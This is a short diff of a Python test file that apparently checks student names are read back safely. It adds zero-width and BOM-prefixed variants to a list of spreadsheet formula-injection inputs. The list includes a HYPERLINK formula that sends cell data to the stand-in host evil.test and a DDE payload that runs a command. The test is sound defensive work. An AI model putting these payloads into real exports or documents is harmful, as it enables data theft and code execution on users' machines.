@@ -108,6 +108,8 @@ def test_whatever_a_student_is_called_is_read_back(room: Room, name: str) -> Non
     [
         '=HYPERLINK("http://evil.test?x="&A1,"Click")',
         "+1+1",
+        "\u200b=1+1",
+        "\ufeff\u00a0@SUM(A1)",
         "-2+3",
         "@SUM(A1:A9)",
         "=cmd|' /C calc'!A0",
